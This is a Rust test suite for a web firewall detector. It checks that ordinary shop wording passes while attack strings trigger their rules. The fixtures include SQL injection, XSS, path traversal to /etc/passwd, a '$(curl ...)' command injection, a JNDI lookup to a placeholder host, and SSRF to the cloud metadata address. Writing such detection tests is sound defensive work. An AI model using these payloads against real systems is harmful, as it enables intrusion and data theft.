//! What must pass, what must not, and what no input may do.

use firewall::{Detector, Rule};
use proptest::prelude::*;

const SHOP: [&str; 26] = [
    "O'Reilly",
    "D'or 1st parfum",
    "5' x 8'",
    "1/2\"",
    "Drop table leg",
    "select & union jack",
    "<3",
    "a < b",
    "a <b and c> d",
    "7\" #2 circular needle",
    "Spin Master DC Comics, 12-Inch Figure",
    "Docking station for 2.5in or 3.5in hard drive",
    "Update: set of 6 arrived, where is the lid? 10/10!",
    "Pick one from the list; create something new -- I did",
    "\"cross stitch\" -pdf -wool",
    "Rock 'n' roll & soul; cat lovers welcome",
    "Works if (x == 1) and y > 2, returns false otherwise",
    "if (order.total > 100) { discount = 10; } // my own shop script",
    "online = good, only = 1 left",
    "Salt and/or pepper... great value!!!",
    "Insert the plug into the wall; order by phone",
    "1 AND 1/2\" BUTTON",
    "35% cotton and 65% polyester",
    "https://shop.example/gifts?ref=mail&utm_source=news#top",
    "\"IS\" stamp",
    "Grüße aus Köln – 100 € (inkl. MwSt.)",
];

fn rules(text: &str) -> Vec<Rule> {
    Detector::new().unwrap().detect(text)
}

#[test]
fn the_words_of_a_shop_pass() {
    let detector = Detector::new().unwrap();
    for text in SHOP {
        assert_eq!(detector.detect(text), [], "{text}");
    }
}

#[test]
fn attacks_break_the_rule_of_their_class() {
    let attacks = [
        ("1 union all select null, null", Rule::SqliUnion),
        ("1/**/UnIoN/**/SeLeCt/**/login,2", Rule::SqliUnion),
        ("(select password from app_users)", Rule::SqliStatement),
        ("x'; drop table orders--", Rule::SqliStacked),
        ("' or 1=1--", Rule::SqliCondition),
        ("\") or (\"a\"=\"a", Rule::SqliCondition),
        ("1 and sleep(5)", Rule::SqliFunction),
        ("3 order by 7--", Rule::SqliClause),
        ("admin'--", Rule::SqliQuote),
        ("' || '", Rule::SqliQuote),
        ("<script>x()</script>", Rule::XssElement),
        ("<i onclick=x()>", Rule::XssHandler),
        ("\" onfocus=x autofocus \"", Rule::XssHandler),
        ("<img src=//a.example/b>", Rule::XssAttribute),
        ("java\nscript:x()", Rule::XssScheme),
        ("&#x6a;avascript&colon;x()", Rule::XssScheme),
        ("';alert(1)//", Rule::XssScript),
        ("<!ENTITY a SYSTEM 'b'>", Rule::Markup),
        ("../../../secret", Rule::Traversal),
        ("/etc/passwd", Rule::Traversal),
        ("a; cat /tmp/x", Rule::Command),
        ("$(curl a.example)", Rule::Command),
        ("${jndi:ldap://a.example/b}", Rule::Code),
        ("$ne", Rule::NoSql),
        ("*)(uid=*))(|(uid=*", Rule::Ldap),
        ("http://169.254.169.254/latest/", Rule::Ssrf),
        ("http://2130706433/", Rule::Ssrf),
        ("http://[::ffff:10.0.0.1]/", Rule::Ssrf),
        ("a\r\nSet-Cookie: b=c", Rule::LineBreak),
    ];
    let detector = Detector::new().unwrap();
    for (text, rule) in attacks {
        let found = detector.detect(text);
        assert!(found.contains(&rule), "{text:?}: {found:?}");
    }
}

#[test]
fn an_attack_after_much_else_is_found() {
    let padded = format!("{} union select 1,2", "1,".repeat(10_000));
    assert!(rules(&padded).contains(&Rule::SqliUnion));
}

#[test]
fn rules_have_names_of_their_own() {
    let mut names: Vec<_> = Rule::ALL.iter().map(|rule| rule.id()).collect();
    names.sort_unstable();
    names.dedup();
    assert_eq!(names.len(), Rule::ALL.len());
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(2000))]

    #[test]
    fn any_text_is_read(text in "\\PC*") {
        rules_of(&text);
    }

    #[test]
    fn any_pile_of_marks_is_read(text in "[`'\"/*!#@%&;<>()\\\\|a0 \\n-]{0,64}") {
        rules_of(&text);
    }
}

fn rules_of(text: &str) {
    use std::sync::LazyLock;
    static DETECTOR: LazyLock<Detector> = LazyLock::new(|| Detector::new().unwrap());
    DETECTOR.detect(text);
}
